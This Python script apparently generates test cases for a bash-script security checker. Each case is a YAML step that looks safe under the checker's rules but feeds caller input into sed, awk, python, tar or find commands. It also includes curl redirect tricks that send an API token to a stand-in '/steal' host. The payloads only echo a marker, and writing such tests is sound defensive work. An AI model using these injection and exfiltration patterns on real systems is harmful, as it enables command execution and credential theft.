#!/usr/bin/env python3
"""Writes blind34r21/attacks/NNN-name.yaml + .json and attacks/then/*.yaml (written for this round,
from the docs only; the format of blind34r20's generator)."""
import json, os

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "attacks")
SUB = "$(echo HARBOR-PWNED-$((6*7)) >&2)"
SH = "echo HARBOR-PWNED-$((6*7)) >&2"
SEDE = "1e " + SH + " #"                       # in sed -n "${n}p"
SEDS = "x|;1e " + SH + ";#"                     # in sed "s|A|$v|"
AWKSYS = 'system("echo HARBOR-PWNED-" 6*7)'
ARITH = "x[$(echo HARBOR-PWNED-$((6*7)) >&2)]"
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
REDIR = "go/127.0.0.1/18765/steal"               # the author's API redirects /go/HOST/PORT/REST there
ATT = []
THEN = {}


def A(name, cls, y, args, why, **extra):
    ATT.append((name, cls, y.strip() + "\n", args, why, extra))


def T(name, y):
    THEN[name] = y.strip() + "\n"


# ============================================================ loop-nameref
A("loop-nameref-sed", "loop-var-nameref", r'''
name: release_header
description: Print the docs index headed by the release title and the service name.
args:
  title: {type: string, minLength: 1, maxLength: 200, description: "the release title"}
required: [title]
timeout: 30
steps:
  - name: header
    run: |
      title=$ARG_title
      service=$(jq -r .service.name config/app.json)
      declare -n field
      for field in title service; do
        sed "s|^|$field: |" docs/index.md
      done
''', {"title": SEDS},
  "Round twenty (rule 5): in the body of `for f in WORDS`, `$f` is the loop's word where nothing else may set `f` (no write in the loop, in a function, through a name or `eval`); the words here are the literals `title` and `service`, and nothing in the loop writes `field`. But `field` is a name reference (`declare -n field`, a declaration, not a write): bash then makes each word the *name* the reference points at, so `$field` is the value of `title`, the caller's, inside a sed program.")

A("loop-nameref-awk-local", "loop-var-nameref", r'''
name: owner_report
description: Count the log lines of the given owner and team.
args:
  owner: {type: string, minLength: 1, maxLength: 200, description: "the owner, e.g. alice"}
  team: {type: string, enum: [core, web, data], default: core}
required: [owner]
timeout: 30
steps:
  - name: count
    run: |
      report() {
        local owner=$ARG_owner team=$ARG_team
        local -n key
        for key in owner team; do
          awk "/$key/ { n++ } END { print \"$key: \" n + 0 }" logs/app.log
        done
      }
      report
''', {"owner": 'x/ { n++ } END { ' + AWKSYS + ' } /x'},
  "Same class in a function with `local -n key`: the loop's words are the literal names `owner` and `team`, which rule 5 makes the values of `key` inside the awk program; bash reads them as names to refer to, so the awk program holds the caller's owner.")

A("loop-nameref-python", "loop-var-nameref", r'''
name: label_lengths
description: Print the length of the label and of the region.
args:
  label: {type: string, minLength: 1, maxLength: 200, description: "a label"}
  region: {type: string, enum: [eu, us], default: eu}
required: [label]
timeout: 30
steps:
  - name: lengths
    run: |
      label=$ARG_label
      region=$ARG_region
      declare -n v
      for v in label region; do
        python3 -c "print(len('$v'))"
      done
''', {"label": "x')); import os; os.system('echo HARBOR-PWNED-' + str(6*7)); print(('"},
  "The loop word is a literal name, so by rule 5 `$v` is the author's text in a literal python program; `v` is a nameref, so bash gives the value of `label`.")

# ============================================================ loop-integer
A("loop-int-sed", "loop-var-integer", r'''
name: log_bounds
description: Print the first and the last wanted line of the application log.
args:
  first: {type: string, minLength: 1, maxLength: 100, default: "1", description: "first line number"}
  last: {type: string, minLength: 1, maxLength: 100, default: "10", description: "last line number"}
timeout: 30
steps:
  - name: bounds
    run: |
      first=$ARG_first
      last=$ARG_last
      declare -i n
      for n in first last; do
        sed -n "${n}p" logs/app.log
      done
''', {"first": ARITH, "last": "3"},
  "Rule 5: `$n` in the body is the loop's word, the literals `first` and `last`. `n` has the integer attribute (`declare -i n`): bash assigns each word by evaluating it as arithmetic, so `first` is read as a variable whose value (the caller's) is evaluated in turn, and `x[$(…)]` runs.")

A("loop-int-local-awk", "loop-var-integer", r'''
name: window_sizes
description: Print the log lines between the before and after offsets of line 50.
args:
  before: {type: string, minLength: 1, maxLength: 100, default: "5"}
  after: {type: string, minLength: 1, maxLength: 100, default: "5"}
timeout: 30
steps:
  - name: window
    run: |
      show() {
        local before=$ARG_before after=$ARG_after
        local -i w
        for w in before after; do
          awk "NR == 50 - $w || NR == 50 + $w" logs/app.log
        done
      }
      show
''', {"before": ARITH},
  "As above with `local -i w` in a function: the loop's words are literal names, evaluated as arithmetic on assignment, so the caller's value is evaluated.")

# ============================================================ loop-positional
A("loop-for-noin-sed", "loop-var-positional", r'''
name: banner_words
description: Print the docs index once per given word, prefixed with it.
args:
  word: {type: string, minLength: 1, maxLength: 200, description: "a word"}
required: [word]
timeout: 30
steps:
  - name: words
    run: |
      banner() {
        for w; do
          sed "s|^|$w: |" docs/index.md
        done
      }
      banner release
      banner "$ARG_word"
''', {"word": SEDS},
  "`for w; do` (no `in`): bash loops over the positional parameters. Rule 5's reading gives `$w` the loop's word where nothing else sets `w`; the loop has no words written, so nothing of the caller's is in it. bash gives the function's arguments, the caller's word in the second call.")

A("loop-for-noin-set-awk", "loop-var-positional", r'''
name: pattern_counts
description: Count the log lines matching each of the given words.
args:
  words: {type: string, minLength: 1, maxLength: 300, description: "comma-separated words"}
required: [words]
timeout: 30
steps:
  - name: counts
    run: |
      IFS=, read -r -a list <<< "$ARG_words"
      set -- "${list[@]}"
      for w
      do
        awk "/$w/ { n++ } END { print \"$w\", n + 0 }" logs/app.log
      done
''', {"words": 'ERROR,x/ { n++ } END { ' + AWKSYS + ' } /x'},
  "`for w` with `do` on the next line and no word list: the loop iterates over `\"$@\"`, set from the caller's words. By rule 5 `$w` is the loop's word (none is written).")

A("loop-for-noin-python", "loop-var-positional", r'''
name: word_lengths
description: Print the length of each given word.
args:
  words: {type: string, minLength: 1, maxLength: 300, description: "comma-separated words"}
required: [words]
timeout: 30
steps:
  - name: lengths
    run: |
      lengths() { for w do python3 -c "print('$w', len('$w'))"; done; }
      IFS=, read -r -a list <<< "$ARG_words"
      lengths "${list[@]}"
''', {"words": "a,x'); import os; os.system('echo HARBOR-PWNED-' + str(6*7)) #"},
  "`for w do` (no `;`, no `in`) in a function: bash's loop over the function's arguments; the docs' loop-word reading sees no word.")

# ============================================================ hidden-call
A("mapfile-callback-sed", "hidden-function-call", r'''
name: show_lines
description: Print the application log lines with the given numbers, one rule per line.
args:
  lines: {type: string, minLength: 1, maxLength: 300, description: "comma-separated line numbers"}
required: [lines]
timeout: 30
steps:
  - name: show
    run: |
      show() {   # show INDEX LINE
        printf '== %s\n' "$1"
        sed -n "${2}p" logs/app.log
      }
      show 0 1
      mapfile -t -c 1 -C show wanted < <(tr ',' '\n' <<< "$ARG_lines")
''', {"lines": "2," + SEDE},
  "Rule 5 (round twenty): a function's `$k` holds each call's k-th word, in a function the script runs only by calls it shows; the one call shown passes literals. `mapfile -C show` names the function as an operand (round twenty: an operand that only spells a function's name is no call), but bash calls it for every line read, with the line, the caller's, as `$2`.")

A("mapfile-callback-awk", "hidden-function-call", r'''
name: count_patterns
description: Count the application log lines matching each given pattern.
args:
  patterns: {type: string, minLength: 1, maxLength: 300, description: "comma-separated patterns"}
required: [patterns]
timeout: 30
steps:
  - name: count
    run: |
      count() { awk "/$2/ { n++ } END { print n + 0 }" logs/app.log; }
      count 0 ERROR
      tr ',' '\n' <<< "$ARG_patterns" | mapfile -t -C count -c 1 pats
''', {"patterns": 'x/ { n++ } END { ' + AWKSYS + ' } /x'},
  "`mapfile -C count` calls `count INDEX LINE` for each line of the caller's list; the only call the script shows passes `ERROR`.")

A("not-found-handler-sed", "hidden-function-call", r'''
name: chart_preview
description: Render the deploy chart with an image tag (prints a note where helm is missing).
args:
  tag: {type: string, minLength: 1, maxLength: 200, description: "the image tag"}
required: [tag]
timeout: 30
steps:
  - name: render
    run: |
      command_not_found_handle() {
        printf '%s is not installed on this server\n' "$1" >&2
        sed "s|^|skipped: $*: |" docs/index.md
        return 127
      }
      helm template app deploy/chart --set "image.tag=$ARG_tag" || true
''', {"tag": SEDS},
  "A function the script never calls has no call whose k-th word could be the caller's (rule 5: each call's k-th word). bash calls `command_not_found_handle` itself when a program is missing, with the command line as its arguments: on a server without helm (helm template's values are data by its grammar, round eighteen) the caller's tag reaches the sed program.")

# ============================================================ function-redefined
A("fn-redefined-in-loop", "function-redefined", r'''
name: line_report
description: Print the requested log line number, then the line itself, for two passes.
args:
  line: {type: string, minLength: 1, maxLength: 100, description: "a line number or a word"}
required: [line]
timeout: 30
steps:
  - name: report
    run: |
      show() { printf 'requested: %s\n' "$1"; }
      for pass in 1 2; do
        show "$ARG_line"
        show() { sed -n "${1}p" logs/app.log; }
        show 3
      done
''', {"line": SEDE},
  "Each definition of `show` gets the calls that follow it in the text: the printf one gets the caller's word (printed), the sed one the literal 3. In the second pass bash runs the call with the caller's word on the sed definition.")

A("fn-nested-definition", "function-redefined", r'''
name: note_render
description: Print a note, in the raw or the rendered style.
args:
  note: {type: string, minLength: 1, maxLength: 300, description: "the note"}
  style: {type: string, enum: [raw, rendered], default: rendered}
required: [note]
timeout: 30
steps:
  - name: render
    run: |
      out() { printf '%s\n' "$1"; }
      rendered_style() {
        out() { sed "s|^|$1: |" docs/index.md; }
      }
      [[ $ARG_style == rendered ]] && rendered_style
      out "$ARG_note"
''', {"note": SEDS},
  "The top-level `out` prints its `$1`; the `out` defined inside `rendered_style` is never called in that function, so its `$1` comes from no call. Once `rendered_style` has run, bash's `out` is the inner one, and the top-level call passes the caller's note to sed.")

A("fn-redefined-header-body", "function-redefined", SEC + r'''
name: report_sync
description: Check the API and post the report query, following the API's redirects.
args:
  report: {type: string, pattern: '^[a-z0-9/._-]{1,100}$', description: "the report path, e.g. daily/summary"}
required: [report]
timeout: 30
steps:
  - name: sync
    run: |
      auth() { printf 'Authorization: Bearer %s\n' "$API_TOKEN"; }
      auth | curl -fsS --max-time 5 -H @- -o /dev/null http://127.0.0.1:18766/v1/items || true
      auth() { printf 'token=%s\n' "$API_TOKEN"; }
      auth | curl -sSL --max-time 5 -o /dev/null --data-binary @- "http://127.0.0.1:18766/$ARG_report" || true
''', {"report": "go307/127.0.0.1/18765/steal"},
  "Section 9 (round twenty): what a function prints goes where its calls send it, and `curl -L` keeps a secret piped to it to the first host when the printf's format shows an `Authorization:` header. `auth` is defined twice; read with the first definition, both calls pipe an Authorization header. The second call runs the second definition, a body, which curl re-sends to the caller's host after a 307.")

# ============================================================ function-conditional-shift
A("shift-conditional-awk", "function-conditional-shift", r'''
name: section_count
description: Count the ERROR lines of the application log under a section heading.
args:
  section: {type: string, minLength: 1, maxLength: 200, description: "a heading ending with a colon, e.g. Errors:"}
required: [section]
timeout: 30
steps:
  - name: count
    run: |
      tally() {   # tally [HEADING:] PROGRAM FILE...
        [[ $1 == *: ]] && { printf '== %s\n' "$1"; shift; }
        awk "$@"
      }
      tally "$ARG_section" '/ERROR/ { n++ } END { print n + 0 }' logs/app.log
''', {"section": 'BEGIN { ' + AWKSYS + ' }'},
  "Rule 4 (round twenty): a command of a function that passes `\"$@\"` on is judged at each call with the words it passes, after the ones the function shifts away first. With the heading shifted away awk's program is the literal one. The shift runs only when the heading ends with `:`; otherwise the caller's heading is awk's program.")

A("shift-conditional-sed", "function-conditional-shift", r'''
name: doc_edit_preview
description: Preview a substitution on a doc page (the page is optional, the index by default).
args:
  page: {type: string, minLength: 1, maxLength: 200, default: "docs/index.md", description: "a .md page"}
timeout: 30
steps:
  - name: preview
    run: |
      preview() {   # preview [PAGE.md] SED-ARGS...
        local page=docs/index.md
        if [[ $1 == *.md ]]; then page=$1; shift; fi
        sed "$@" -- "$page"
      }
      preview "$ARG_page" 's/^/> /'
''', {"page": SEDE},
  "The function shifts its page away first (when it ends in `.md`), so by the docs' reading sed gets the literal script `s/^/> /`. A page not ending in `.md` is not shifted: sed's first operand, its script, is the caller's.")

A("shift-unquoted-star-tar", "function-conditional-shift", r'''
name: pack_logs
description: Pack the named log files.
args:
  files: {type: string, minLength: 1, maxLength: 300, description: "a log file name, e.g. app.log"}
required: [files]
timeout: 30
steps:
  - name: pack
    run: |
      pack() { tar -czf "$HARBOR_RUN_DIR/logs.tgz" -C logs $*; }
      pack "$ARG_files"
      echo packed
''', {"files": "app.log --checkpoint=1 --checkpoint-action=exec=echo${IFS}HARBOR-PWNED-$((6+36))>&2"},
  "Round twenty refuses an unquoted `$ARG_x` that can split before `--`; the call here passes the caller's word quoted, one word, and the function passes its arguments on (`$*`). Unquoted, `$*` splits the one word into several, and a later one starts with `--checkpoint-action=exec=`.")

A("shift-unquoted-at-find", "function-conditional-shift", r'''
name: find_logs
description: List the log files whose name matches a pattern.
args:
  pattern: {type: string, minLength: 1, maxLength: 300, description: "a name pattern, e.g. app*"}
required: [pattern]
timeout: 30
steps:
  - name: find
    run: |
      list() { find logs -type f $@; }
      list -name "$ARG_pattern"
''', {"pattern": "x -o -exec sh -c echo${IFS}HARBOR-PWNED-$((6+36))>&2 ;"},
  "The function passes its words on with an unquoted `$@`; each call's words are literal or one quoted caller word, judged as `find logs -type f -name WORD`. bash splits the unquoted `$@`, so the caller's word becomes `-o -exec sh -c …`.")

# ============================================================ printf-v-concat
A("printf-v-concat-sed", "printf-v-words", r'''
name: tagged_index
description: Print the docs index prefixed with a tag made from the project and a suffix.
args:
  suffix: {type: string, minLength: 1, maxLength: 200, description: "a suffix for the tag"}
required: [suffix]
timeout: 30
steps:
  - name: tag
    run: |
      printf -v tag %s "release-" "$ARG_suffix"
      sed "s|^|[release]: |" docs/index.md
      printf -v tag %s "release-2024"
      sed "s|^|[$tag]: |" docs/index.md
''', {"suffix": SEDS},
  "Rule 5 (round twenty): `printf -v v %s WORD` makes `v` hold WORD. With more words than the format takes, printf reuses the format, so `tag` holds every word, concatenated; a checker reading WORD as the first word sees `release-`. (The second assignment keeps the variable a once-set literal on the path the docs follow; bash's `tag` there is `release-2024`, so this one is a control: the first `sed` does not use `tag`.)", skip=True)

A("printf-v-concat-awk", "printf-v-words", r'''
name: prefixed_count
description: Count the application log lines starting with a prefix made of the level and a suffix.
args:
  suffix: {type: string, minLength: 1, maxLength: 200, description: "more of the prefix"}
required: [suffix]
timeout: 30
steps:
  - name: count
    run: |
      printf -v prefix %s "2024-" "$ARG_suffix"
      awk "index(\$0, \"$prefix\") == 1 { n++ } END { print n + 0 }" logs/app.log
''', {"suffix": 'x") ; ' + AWKSYS + ' ; n = ("'},
  "`printf -v v %s WORD` makes `v` hold WORD (rule 5, round twenty). Given two words, printf applies `%s` to each in turn and `prefix` holds both, the caller's second word inside the awk program.")

A("printf-v-concat-sed2", "printf-v-words", r'''
name: release_tag_index
description: Print the docs index prefixed with the release tag.
args:
  name: {type: string, minLength: 1, maxLength: 200, description: "the release name"}
required: [name]
timeout: 30
steps:
  - name: tag
    run: |
      printf -v tag %s "v" "$(git describe --tags --abbrev=0 | tr -d v)" "-" "$ARG_name"
      sed "s|^|$tag: |" docs/index.md
''', {"name": SEDS},
  "Same class: four words under one `%s`, the last the caller's; `tag` holds their concatenation.")

# ============================================================ assoc-shadow
A("assoc-local-scalar-shadow", "assoc-dynamic-scope", r'''
name: service_port
description: Print the port of a service, and whether it answers.
args:
  service: {type: string, minLength: 1, maxLength: 200, description: "the service, e.g. web"}
required: [service]
timeout: 30
steps:
  - name: port
    run: |
      declare -A port=([web]=8080 [api]=9090 [db]=5432)
      lookup() { printf '%s: %s\n' "$1" "${port[$1]:-unknown}"; }
      probe() {
        local port=0
        lookup "$1"
      }
      lookup web
      probe "$ARG_service"
''', {"service": ARITH},
  "Rule 5 (round twenty): `${map[$k]}` of an associative array holds what the map holds, whatever the key; rule 6: `port` is proven associative by the unconditional `declare -A` at the top. bash scopes dynamically: called from `probe`, `lookup` sees `probe`'s local scalar `port`, so `${port[$1]}` is an indexed subscript, evaluated as arithmetic, and `x[$(…)]` runs.")

A("assoc-local-assoc-shadow", "assoc-dynamic-scope", r'''
name: env_banner
description: Print the docs index with the label of an environment, or of a custom one.
args:
  custom: {type: string, minLength: 1, maxLength: 200, description: "a custom label"}
required: [custom]
timeout: 30
steps:
  - name: banner
    run: |
      declare -A label=([dev]=Development [prod]=Production)
      render() { sed "s|^|${label[$1]}: |" docs/index.md; }
      preview() {
        local -A label=()
        label[custom]=$1
        render custom
      }
      render dev
      preview "$ARG_custom"
''', {"custom": SEDS},
  "`${label[$1]}` holds what the map holds (the author's two labels, every element write at the top being literal). bash's dynamic scope makes `render`, called from `preview`, read `preview`'s own `local -A label`, whose element is the caller's.")

A("assoc-declare-in-function", "assoc-dynamic-scope", r'''
name: region_name
description: Print the long name of a region, checking the input first.
args:
  region: {type: string, minLength: 1, maxLength: 200, description: "a region code, e.g. eu"}
required: [region]
timeout: 30
steps:
  - name: region
    run: |
      declare -A names=([eu]=Europe [us]="United States")
      name_of() { printf '%s\n' "${names[$1]:-unknown}"; }
      check() {
        declare names
        names=$(printf '%s' "$1" | tr -cd 'a-z')
        name_of "$1"
      }
      check "$ARG_region"
''', {"region": ARITH},
  "`declare names` in a function is a local scalar; `name_of`, called from there, sees it, and `${names[$1]}` evaluates the caller's key as arithmetic.")

# ============================================================ guard-no-leave
A("guard-continue-subshell", "guard-does-not-leave", r'''
name: log_lines_in_dir
description: Print the given line numbers of the application log.
args:
  lines: {type: string, minLength: 1, maxLength: 300, description: "comma-separated line numbers"}
required: [lines]
timeout: 30
steps:
  - name: show
    run: |
      IFS=, read -r -a wanted <<< "$ARG_lines"
      for n in "${wanted[@]}"; do
        (
          cd logs
          [[ $n =~ ^[0-9]+$ ]] || continue
          sed -n "${n}p" app.log
        )
      done
''', {"lines": "2," + SEDE},
  "Round twenty: a guard leaves where bash leaves, `continue` in a loop of the same function. Here the `continue` is in a loop of the same function, but in a subshell `( … )` (kept for the `cd`): bash prints \"only meaningful in a loop\", returns 0, and the subshell goes on to sed with the non-number.")

A("guard-continue-piped-body", "guard-does-not-leave", r'''
name: log_lines_indented
description: Print the given line numbers of the application log, indented.
args:
  lines: {type: string, minLength: 1, maxLength: 300, description: "comma-separated line numbers"}
required: [lines]
timeout: 30
steps:
  - name: show
    run: |
      IFS=, read -r -a wanted <<< "$ARG_lines"
      for n in "${wanted[@]}"; do
        {
          [[ $n =~ ^[0-9]+$ ]] || continue
          sed -n "${n}p" logs/app.log
        } | sed 's/^/    /'
      done
''', {"lines": "2," + SEDE},
  "The loop body is a brace group piped to an indenting sed; a group in a pipeline runs in a subshell, where `continue` does not leave the loop (bash: \"only meaningful in a loop\"), so sed gets the non-number.")

A("guard-exit-subshell", "guard-does-not-leave", r'''
name: log_line
description: Print one line of the application log.
args:
  line: {type: string, minLength: 1, maxLength: 100, description: "a line number"}
required: [line]
timeout: 30
steps:
  - name: show
    run: |
      n=$ARG_line
      [[ $n =~ ^[0-9]+$ ]] || (echo "no line number given, nothing to show"; exit 0)
      sed -n "${n}p" logs/app.log
''', {"line": SEDE},
  "Rule 5: \"`exit` anywhere\" leaves. This `exit` is in a subshell `( … )`: it ends the subshell only (status 0), and the script goes on to sed.")

A("guard-return-piped-function", "guard-does-not-leave", r'''
name: log_line_fn
description: Print one line of the application log, numbered.
args:
  line: {type: string, minLength: 1, maxLength: 100, description: "a line number"}
required: [line]
timeout: 30
steps:
  - name: show
    run: |
      show() {
        [[ $1 =~ ^[0-9]+$ ]] || { echo "not a number: skipped" | sed 's/^/# /'; } | cat || return 0
        sed -n "${1}p" logs/app.log
      }
      show "$ARG_line"
''', {"line": SEDE},
  "A `|| … || return` guard in a function: the `return` runs only when the pipeline before it fails, which it does not (its last stage is `cat`).", skip=True)

A("guard-quoted-regex", "guard-quoted-regex", r'''
name: log_line_q
description: Print one line of the application log.
args:
  line: {type: string, minLength: 1, maxLength: 100, description: "a line number"}
required: [line]
timeout: 30
steps:
  - name: show
    run: |
      n=$ARG_line
      [[ $n =~ "^[0-9]+$" ]] || { echo "line must be a number" >&2; exit 2; }
      sed -n "${n}p" logs/app.log
''', {"line": SEDE + "^[0-9]+$"},
  "Round nineteen/twenty: a digits guard that leaves makes the name digits below it. Quoted, the right side of `=~` is matched as a literal string, anywhere in the value: any value that contains the text `^[0-9]+$` passes.")

A("guard-quoted-regex-var", "guard-quoted-regex", r'''
name: log_range_q
description: Print a range of the application log.
args:
  from: {type: string, minLength: 1, maxLength: 100, default: "1"}
  to: {type: string, minLength: 1, maxLength: 100, default: "10"}
timeout: 30
steps:
  - name: show
    run: |
      digits='^[0-9]+$'
      for v in "$ARG_from" "$ARG_to"; do
        [[ $v =~ "$digits" ]] || { echo "not a number: $v" >&2; exit 2; }
      done
      a=$ARG_from; b=$ARG_to
      [[ $a =~ "$digits" && $b =~ "$digits" ]] || exit 2
      awk "NR >= $a && NR <= $b" logs/app.log
''', {"from": "1 || " + AWKSYS + " || /^[0-9]+$/", "to": "3^[0-9]+$"},
  "A guard on a regex in a variable, quoted (`\"$digits\"`): bash matches it as a literal string, so a value holding `^[0-9]+$` passes.", skip=True)

A("guard-quoted-regex-var-awk", "guard-quoted-regex", r'''
name: log_head_q
description: Print the first N lines of the application log.
args:
  count: {type: string, minLength: 1, maxLength: 100, default: "10"}
timeout: 30
steps:
  - name: head
    run: |
      digits='^[0-9]+$'
      n=$ARG_count
      [[ $n =~ "$digits" ]] || exit 2
      awk "NR <= $n" logs/app.log
''', {"count": "1 || " + AWKSYS + " || \"^[0-9]+$\""},
  "A digits guard whose regex is a variable, quoted (`\"$digits\"`): bash then matches the text literally, as a substring, so any value containing `^[0-9]+$` passes the guard and reaches the awk program.")

A("guard-quoted-regex-signed", "guard-quoted-regex", r'''
name: log_offset
description: Print the application log line at an offset (negative from the end) from line 100.
args:
  offset: {type: string, minLength: 1, maxLength: 100, default: "0"}
timeout: 30
steps:
  - name: line
    run: |
      o=$ARG_offset
      [[ $o =~ '^-?[0-9]+$' ]] || { echo "offset must be a whole number" >&2; exit 2; }
      awk "NR == 100 + $o" logs/app.log
''', {"offset": "0 || " + AWKSYS + " || \"^-?[0-9]+$\""},
  "Round twenty accepts signed digit guards `^-?[0-9]+$`; a signed number is inert in awk after `+`. Single-quoted, the regex is a literal string for bash's `=~`: a value containing `^-?[0-9]+$` passes.")

A("guard-then-shift", "guard-does-not-leave", r'''
name: context_lines
description: Print a log line with some lines of context.
args:
  line: {type: string, minLength: 1, maxLength: 100, description: "a line number"}
required: [line]
timeout: 30
steps:
  - name: context
    run: |
      around() {   # around CONTEXT LINE
        [[ $1 =~ ^[0-9]+$ ]] || return 1
        local ctx=$1
        shift
        sed -n "${1}p" logs/app.log
        echo "(context $ctx)"
      }
      around 2 "$ARG_line"
''', {"line": SEDE},
  "A guard that leaves (`|| return`) makes `$1` digits below it (round nineteen/twenty); the `shift` after it gives `$1` the next word, the caller's line, which no guard checked.")

A("guard-array-first-element", "guard-does-not-leave", r'''
name: log_lines_checked
description: Print the given line numbers of the application log.
args:
  lines: {type: string, minLength: 1, maxLength: 300, description: "comma-separated line numbers"}
required: [lines]
timeout: 30
steps:
  - name: show
    run: |
      IFS=, read -r -a n <<< "$ARG_lines"
      [[ $n =~ ^[0-9]+$ ]] || { echo "line numbers only" >&2; exit 2; }
      for l in "${n[@]}"; do
        sed -n "${l}p" logs/app.log
      done
''', {"lines": "2," + SEDE},
  "The guard tests `$n`, which for an array is its first element only; the loop's word (rule 5: `$l` is the loop's word) comes from `${n[@]}`, every element, the second one unchecked.")

A("guard-other-function", "guard-does-not-leave", r'''
name: log_line_checked
description: Print one line of the application log, with a warning when it is not a number.
args:
  line: {type: string, minLength: 1, maxLength: 100, description: "a line number"}
required: [line]
timeout: 30
steps:
  - name: show
    run: |
      n=$ARG_line
      check() { [[ $n =~ ^[0-9]+$ ]] || return 1; }
      show() { sed -n "${n}p" logs/app.log; }
      check || echo "warning: not a number" >&2
      show
''', {"line": SEDE},
  "The guard's `return` leaves `check`, not the script; `show`'s body is below the guard in the text.")

A("guard-exit-function-shadow", "guard-does-not-leave", r'''
name: log_line_cleanup
description: Print one line of the application log, cleaning the scratch folder on every exit.
args:
  line: {type: string, minLength: 1, maxLength: 100, description: "a line number"}
required: [line]
timeout: 30
steps:
  - name: show
    run: |
      scratch=$(mktemp -d)
      exit() { rm -rf "$scratch"; echo "exit $1 (scratch cleaned)" >&2; }
      n=$ARG_line
      [[ $n =~ ^[0-9]+$ ]] || { echo "line must be a number" >&2; exit 2; }
      sed -n "${n}p" logs/app.log
      exit 0
''', {"line": SEDE},
  "Rule 5: `exit` anywhere leaves. A script may define a function called `exit` (bash looks functions up before builtins outside POSIX mode); this one cleans up and returns, so the guard's `exit 2` does not leave.")

A("guard-recursion", "function-recursion", r'''
name: line_or_pair
description: Print a line of the application log; "go N" forms are forwarded.
args:
  line: {type: string, minLength: 1, maxLength: 100, description: "a line number"}
required: [line]
timeout: 30
steps:
  - name: show
    run: |
      show() {
        if [[ $1 == go ]]; then
          show "$2" x
        else
          sed -n "${1}p" logs/app.log
        fi
      }
      show 5
      show go "$ARG_line"
''', {"line": SEDE},
  "`$1` holds each call's first word (rule 5): `5`, `go`, and, in the recursive call, the function's own `$2`. Every call shown passes literals as `$1` but one, whose `$1` is `$2` of the function, itself the caller's line in the top-level call.")

# ============================================================ read-literal-path
A("read-dev-stdin", "read-literal-path", r'''
name: first_line_number
description: Print the application log line named by the first of the given numbers.
args:
  lines: {type: string, minLength: 1, maxLength: 300, description: "line numbers, one per line", multiline: true}
required: [lines]
timeout: 30
steps:
  - name: show
    run: |
      input=/dev/stdin
      first() {
        read -r n < "$input"
        sed -n "${n}p" logs/app.log
      }
      first <<< "$ARG_lines"
''', {"lines": SEDE},
  "Round twenty: `read -r n < \"$f\"` with `f` set once to a path no step writes gives the file's text, the author's. `/dev/stdin` is such a path, but it is the function's standard input, here the caller's here-string.")

A("read-dev-fd3", "read-literal-path", r'''
name: first_id
description: Print the application log line of the first id.
args:
  ids: {type: string, minLength: 1, maxLength: 300, description: "comma-separated line numbers"}
required: [ids]
timeout: 30
steps:
  - name: show
    run: |
      ids_file=/dev/fd/3
      {
        IFS=, read -r n _ < "$ids_file"
        sed -n "${n}p" logs/app.log
      } 3< <(printf '%s\n' "$ARG_ids")
''', {"ids": SEDE + ",2"},
  "`read` from a variable set once to the literal path `/dev/fd/3`, which no step writes; descriptor 3 of the group is the caller's list.")

A("read-proc-self-fd", "read-literal-path", r'''
name: config_line
description: Print the application log line given as the first setting line.
args:
  settings: {type: string, minLength: 1, maxLength: 1000, multiline: true, description: "line=N lines"}
required: [settings]
timeout: 30
steps:
  - name: show
    run: |
      cfg=/proc/self/fd/0
      while IFS= read -r _; do :; done < /dev/null
      IFS='=' read -r key n < "$cfg" <<< "$ARG_settings"
      awk "NR == $n" logs/app.log
''', {"settings": "line=1 || " + AWKSYS},
  "`/proc/self/fd/0` is a literal path no step writes (`cfg` is set once); the `read` command's own standard input is the caller's here-string: bash applies `< \"$cfg\"` after `<<<`? No: redirections apply left to right, so fd 0 is first the file (itself, the process's stdin) then the here-string; the later wins.", skip=True)

A("read-shared-abs-path", "read-literal-path", r'''
name: set_build
description: Record the last build number for the other exports of this server.
args:
  build: {type: string, minLength: 1, maxLength: 100, description: "the build number"}
required: [build]
timeout: 30
steps:
  - name: save
    run: |
      mkdir -p /var/tmp/r21-app
      printf '%s\n' "$ARG_build" > /var/tmp/r21-app/last_build
''', {"build": SEDE, },
  "Round twenty: `read -r n < \"$f\"` with `f` set once to a path no step writes is the author's text. The follow-up export reads `/var/tmp/r21-app/last_build`, which none of its own steps writes; this export (a step of another export) writes it with the caller's value, at an absolute path (a redirection of caller data to an absolute path does not make the working folder written, rule 7).",
  then=[{"export": "build_lines", "args": {}}])

T("build_lines", r'''
name: build_lines
description: Print the application log line of the last recorded build.
timeout: 30
steps:
  - name: show
    run: |
      f=/var/tmp/r21-app/last_build
      read -r n < "$f"
      sed -n "${n}p" logs/app.log
''')

# ============================================================ curl-header-lines
A("curl-L-second-header", "curl-header-lines", SEC + r'''
name: report_fetch
description: Fetch a report from the company API (which may redirect within itself).
args:
  report: {type: string, pattern: '^[a-z0-9/._-]{1,100}$', description: "the report path, e.g. reports/daily"}
required: [report]
timeout: 30
steps:
  - name: fetch
    run: |
      printf 'Authorization: Bearer %s\nX-Api-Key: %s\n' "$API_TOKEN" "$API_TOKEN" |
        curl -sSL --max-time 5 -H @- -o /dev/null "http://127.0.0.1:18766/$ARG_report" || true
      echo fetched
''', {"report": REDIR},
  "Section 9 (round twenty): `curl -L` keeps a secret piped into it to the first host as an `Authorization:` header read with `-H @-` (the printf's format shows the header). The format starts with `Authorization:` and also writes an `X-Api-Key:` line with the secret: curl strips only Authorization and Cookie on a redirect to another host, so the X-Api-Key header follows the author's API's redirect to the caller's host.")

A("curl-L-cookie-second-line", "curl-header-lines", SEC + r'''
name: dashboard_fetch
description: Fetch a dashboard page with the session cookie (the API may redirect).
args:
  page: {type: string, pattern: '^[a-z0-9/._-]{1,100}$', description: "the page path"}
required: [page]
timeout: 30
steps:
  - name: fetch
    run: |
      printf 'Cookie: session=%s\nX-Session: %s\n' "$API_TOKEN" "$API_TOKEN" |
        curl -sSL --max-time 5 -H @- -o /dev/null "http://127.0.0.1:18766/$ARG_page" || true
''', {"page": REDIR},
  "Same with a `Cookie:` header first in the format and the secret again in an `X-Session:` line, which curl sends after the redirect.")

A("curl-L-args-swapped", "curl-header-lines", SEC + r'''
name: traced_fetch
description: Fetch a report with a request id for tracing.
args:
  report: {type: string, pattern: '^[a-z0-9/._-]{1,100}$', description: "the report path"}
  request_id: {type: string, pattern: '^[a-z0-9-]{1,40}$', default: "r-1"}
required: [report]
timeout: 30
steps:
  - name: fetch
    run: |
      printf 'Authorization: Bearer %s\nX-Request-Id: %s\n' "$ARG_request_id" "$API_TOKEN" |
        curl -sSL --max-time 5 -H @- -o /dev/null "http://127.0.0.1:18766/$ARG_report" || true
''', {"report": REDIR},
